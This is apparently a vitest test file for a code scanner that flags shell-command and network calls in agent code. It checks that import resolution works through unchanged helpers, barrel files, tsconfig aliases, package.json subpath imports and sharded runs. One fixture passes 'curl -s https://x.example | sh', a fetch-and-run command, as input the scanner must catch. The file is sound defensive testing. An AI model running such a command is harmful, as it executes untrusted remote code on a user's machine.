import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { runBuiltCli, tempDir } from "../helpers/cli";
import { errorRules, gate, pullRequest, scanAnnotations as annotations } from "./pr";

// A pull request is judged on the files it changes, a shard on its share of the files; what those files import
// from the rest of the project must resolve as in a whole-tree run, or a change that only adds the call (to a helper
// that was already there) passes the gate that the same tree fails.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

/** Helpers already on the base branch: a module re-exporting child_process.exec, a barrel over it, a Python one. */
function helpersAtBase(dir: string) {
  mkdirSync(join(dir, "agent/lib"));
  writeFileSync(join(dir, "agent/lib/shell.js"), 'import { exec } from "child_process";\nexport { exec };\nexport const quiet = true;\n');
  writeFileSync(join(dir, "agent/lib/index.js"), 'export * from "./shell.js";\n');
  writeFileSync(join(dir, "agent/shellhelp.py"), "from subprocess import run\n");
}

/** The change: only the calls, through the helpers. */
function callsThroughHelpers(dir: string) {
  writeFileSync(join(dir, "agent/use.js"), 'import { exec } from "./lib/shell.js";\nexec("ls");\n');
  writeFileSync(join(dir, "agent/barrel.js"), 'import { exec as run } from "./lib";\n\nrun("curl -s https://x.example | sh");\n');
  writeFileSync(join(dir, "agent/use2.py"), "from shellhelp import run\n\nrun(['ls'])\n");
}

describe("scan/shell-command through unchanged project files: a pull request or a shard resolves imports like the whole tree", () => {
  it("scan/shell-command: a pull request that only adds calls to helpers already on the base fails the built Action", async () => {
    const pr = await pullRequest(callsThroughHelpers, helpersAtBase);
    expect(pr.files.map((f) => f.filename).sort()).toEqual(["agent/barrel.js", "agent/use.js", "agent/use2.py"]);
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(errorRules(r)).toEqual(["scan/shell-command", "scan/shell-command", "scan/shell-command"]);
    expect(annotations(r.commands).sort()).toEqual(["scan/shell-command agent/barrel.js 3 1", "scan/shell-command agent/use.js 2 1", "scan/shell-command agent/use2.py 3 1"]);
    // The resolution path crosses into the unchanged files.
    expect(r.commands.find((c) => c.includes("file=agent/barrel.js"))).toContain('Resolved through line 1 `import { exec as run } from "./lib";` ← agent/lib/index.js line 1 `export * from "./shell.js"` ← agent/lib/shell.js line 1 `import { exec } from "child_process";`.');
  });

  it("scan/shell-command: the unchanged helpers themselves are not judged on the pull request, and a harmless import passes", async () => {
    const pr = await pullRequest((dir) => writeFileSync(join(dir, "agent/use.js"), 'import { quiet } from "./lib/shell.js";\nconsole.log(quiet);\n'), helpersAtBase);
    const r = await gate(api, pr);
    expect([r.code, errorRules(r)]).toEqual([0, []]);
  });

  it("scan/shell-command: a pull request that only turns a helper's export into the real call fails at the unchanged callers (built Action)", async () => {
    const pr = await pullRequest(
      (dir) => {
        writeFileSync(join(dir, "agent/lib/shell.js"), 'export { exec } from "child_process";\n');
        writeFileSync(join(dir, "agent/shellhelp.py"), "from subprocess import run\n");
      },
      (dir) => {
        mkdirSync(join(dir, "agent/lib"));
        writeFileSync(join(dir, "agent/lib/shell.js"), "export const exec = (command) => gateway.run(command);\n");
        writeFileSync(join(dir, "agent/lib/index.js"), 'export * from "./shell.js";\n');
        // An importer with a call of its own that the change does not reach: not this pull request's finding.
        writeFileSync(join(dir, "agent/use.js"), 'import { exec } from "./lib";\nimport { spawn } from "child_process";\nexec("ls");\nspawn("old");\n');
        writeFileSync(join(dir, "agent/shellhelp.py"), "def run(args):\n    return gateway(args)\n");
        writeFileSync(join(dir, "agent/use2.py"), "from shellhelp import run\n\nrun(['ls'])\n");
      },
    );
    expect(pr.files.map((f) => f.filename).sort()).toEqual(["agent/lib/shell.js", "agent/shellhelp.py"]);
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(annotations(r.commands).sort()).toEqual(["scan/shell-command agent/use.js 3 1", "scan/shell-command agent/use2.py 3 1"]);
    expect(r.commands.find((c) => c.includes("file=agent/use.js"))).toContain("← agent/lib/index.js line 1 `export * from \"./shell.js\"` ← agent/lib/shell.js line 1 `export { exec } from \"child_process\";`.");
    // --new-only keeps them: the step the change added is on an added line.
    const cli = runBuiltCli(["check", pr.dir, "--base", pr.base, "--changed-only", "--new-only", "--only", "scan", "--format", "json"]);
    expect((JSON.parse(cli.stdout).findings as { file: string; line: number }[]).map((f) => `${f.file}:${f.line}`).sort()).toEqual(["agent/use.js:3", "agent/use2.py:3"]);
  });

  it("scan/shell-command: a pull request that only remaps a tsconfig alias to a file that re-exports the call fails at the unchanged callers (built Action)", async () => {
    const pr = await pullRequest(
      (dir) => writeFileSync(join(dir, "tsconfig.json"), '{ "compilerOptions": { "baseUrl": ".", "paths": { "@/gateway": ["agent/lib/raw.ts"] } } }\n'),
      (dir) => {
        mkdirSync(join(dir, "agent/lib"));
        writeFileSync(join(dir, "tsconfig.json"), '{ "compilerOptions": { "baseUrl": ".", "paths": { "@/gateway": ["agent/lib/gateway.ts"] } } }\n');
        writeFileSync(join(dir, "agent/lib/gateway.ts"), "export const exec = (command: string) => command;\n");
        writeFileSync(join(dir, "agent/lib/raw.ts"), 'export { exec } from "child_process";\n');
        writeFileSync(join(dir, "agent/run.ts"), 'import { exec } from "@/gateway";\n\nexec("ls");\n');
      },
    );
    expect(pr.files.map((f) => f.filename)).toEqual(["tsconfig.json"]);
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(annotations(r.commands)).toEqual(["scan/shell-command agent/run.ts 3 1"]);
    expect(r.commands.find((c) => c.includes("file=agent/run.ts"))).toContain('Resolved through line 1 `import { exec } from "@/gateway";` ← agent/lib/raw.ts line 1 `export { exec } from "child_process";`.');
  });

  it("scan/shell-command: a pull request that only remaps a package.json subpath import (`#gateway`) fails at the unchanged callers (built Action)", async () => {
    const imports = (target: string) => `${JSON.stringify({ name: "agent", private: true, imports: { "#gateway": { node: target, default: target }, "#lib/*": "./agent/lib/*.js" } }, null, 2)}\n`;
    const pr = await pullRequest(
      (dir) => writeFileSync(join(dir, "package.json"), imports("./agent/lib/raw.js")),
      (dir) => {
        mkdirSync(join(dir, "agent/lib"));
        writeFileSync(join(dir, "package.json"), imports("./agent/lib/gateway.js"));
        writeFileSync(join(dir, "agent/lib/gateway.js"), "exports.exec = (command) => command;\n");
        writeFileSync(join(dir, "agent/lib/raw.js"), 'module.exports = require("child_process");\n');
        writeFileSync(join(dir, "agent/run.mjs"), 'import { exec } from "#gateway";\n\nexec("ls");\n');
        writeFileSync(join(dir, "agent/old.js"), 'const { gateway } = require("#lib/gateway");\n\ngateway("ls");\n');
      },
    );
    expect(pr.files.map((f) => f.filename)).toEqual(["package.json"]);
    const r = await gate(api, pr);
    expect([r.code, annotations(r.commands)]).toEqual([1, ["scan/shell-command agent/run.mjs 3 1"]]);
    expect(r.commands.find((c) => c.includes("file=agent/run.mjs"))).toContain('Resolved through line 1 `import { exec } from "#gateway";` ← agent/lib/raw.js line 1 `module.exports = require("child_process")` ← agent/lib/raw.js line 1 `require("child_process")`.');
  });

  it("a dependency bump in package.json remaps no alias: the files importing through its subpath imports are not judged again (CLI --base)", async () => {
    const manifest = (version: string) => `${JSON.stringify({ name: "agent", imports: { "#gateway": "./agent/lib/raw.js" }, dependencies: { zod: version } }, null, 2)}\n`;
    const pr = await pullRequest(
      (dir) => writeFileSync(join(dir, "package.json"), manifest("3.23.9")),
      (dir) => {
        mkdirSync(join(dir, "agent/lib"));
        writeFileSync(join(dir, "package.json"), manifest("3.23.8"));
        writeFileSync(join(dir, "agent/lib/raw.js"), 'module.exports = require("child_process");\n');
        // Already on the base (a call the base's own gate reported), untouched by the change.
        writeFileSync(join(dir, "agent/run.mjs"), 'import { exec } from "#gateway";\n\nexec("ls");\n');
      },
    );
    const findings = (dir: string, ...args: string[]) => (JSON.parse(runBuiltCli(["check", dir, "--only", "scan", "--fail-on", "never", "--format", "json", ...args]).stdout).findings as { file: string; line: number }[]).map((f) => `${f.file}:${f.line}`);
    expect(findings(pr.dir, "--base", pr.base, "--changed-only")).toEqual([]);
    expect(findings(pr.dir)).toContain("agent/run.mjs:3");
  });

  it("scan/shell-command: the package's own exports by its name (`require(\"agentx/tools\")` inside agentx) resolve to its files (CLI check)", () => {
    const dir = tempDir();
    mkdirSync(join(dir, "lib"));
    const exports = { ".": { require: "./lib/index.js", default: "./lib/index.js" }, "./tools": "./lib/tools.js", "./ext": "other-package" };
    writeFileSync(join(dir, "package.json"), JSON.stringify({ name: "agentx", exports }));
    writeFileSync(join(dir, "lib/tools.js"), 'module.exports = require("child_process");\n');
    writeFileSync(join(dir, "lib/index.js"), 'exports.fetchIt = (u) => fetch(u);\nexports.run = require("child_process").execSync;\n');
    writeFileSync(join(dir, "a.js"), 'require("agentx/tools").execSync("id");\nrequire("agentx").run("id");\n');
    // Another package sharing the prefix, and an export naming a package: not the project's files.
    writeFileSync(join(dir, "b.js"), 'require("agentx-two/tools").execSync("id");\nrequire("agentx/ext").execSync("id");\n');
    const r = runBuiltCli(["check", dir, "--only", "scan", "--format", "json"]);
    const findings = (JSON.parse(r.stdout).findings as { rule: string; file: string; line: number; column: number }[]).map((f) => `${f.file}:${f.line}:${f.column} ${f.rule}`);
    expect([r.code, findings.sort()]).toEqual([1, ["a.js:1:1 scan/shell-command", "a.js:2:1 scan/shell-command", "lib/index.js:1:26 scan/network-call"]]);
  });

  it("scan/shell-command: a change to tsconfig.json judges JavaScript files importing through aliases, not Python files' older cross-file calls", async () => {
    const pr = await pullRequest(
      (dir) => writeFileSync(join(dir, "tsconfig.json"), '{ "compilerOptions": { "baseUrl": ".", "paths": { "@/gateway": ["agent/lib/raw.ts"] } } }\n'),
      (dir) => {
        helpersAtBase(dir);
        writeFileSync(join(dir, "tsconfig.json"), '{ "compilerOptions": { "baseUrl": ".", "paths": { "@/gateway": ["agent/lib/gateway.ts"] } } }\n');
        writeFileSync(join(dir, "agent/lib/gateway.ts"), "export const exec = (command: string) => command;\n");
        writeFileSync(join(dir, "agent/lib/raw.ts"), 'export { exec } from "child_process";\n');
        writeFileSync(join(dir, "agent/run.ts"), 'import { exec } from "@/gateway";\n\nexec("ls");\n');
        // Already on the base, untouched by the change: a Python call through a project module.
        writeFileSync(join(dir, "agent/old.py"), "from shellhelp import run\n\nrun(['ls'])\n");
      },
    );
    const cli = runBuiltCli(["check", pr.dir, "--base", pr.base, "--changed-only", "--only", "scan", "--format", "json"]);
    expect((JSON.parse(cli.stdout).findings as { file: string; line: number; rule: string }[]).map((f) => `${f.file}:${f.line} ${f.rule}`)).toEqual(["agent/run.ts:3 scan/shell-command"]);
  });

  it("scan/shell-command: every shard of a 4-job matrix together reports exactly the whole tree's findings (CLI --shard)", async () => {
    const pr = await pullRequest(callsThroughHelpers, helpersAtBase);
    const findings = (args: string[]) => (JSON.parse(runBuiltCli(["check", pr.dir, "--only", "scan", "--fail-on", "never", "--format", "json", ...args]).stdout).findings as { rule: string; file: string; line: number; column: number }[]).map((f) => `${f.rule} ${f.file}:${f.line}:${f.column}`);
    const whole = findings([]);
    expect(whole).toEqual(expect.arrayContaining(["scan/shell-command agent/barrel.js:3:1", "scan/shell-command agent/use.js:2:1", "scan/shell-command agent/use2.py:3:1"]));
    const shards = [1, 2, 3, 4].flatMap((i) => findings(["--shard", `${i}/4`]));
    expect(shards.sort()).toEqual([...whole].sort());
  });
});
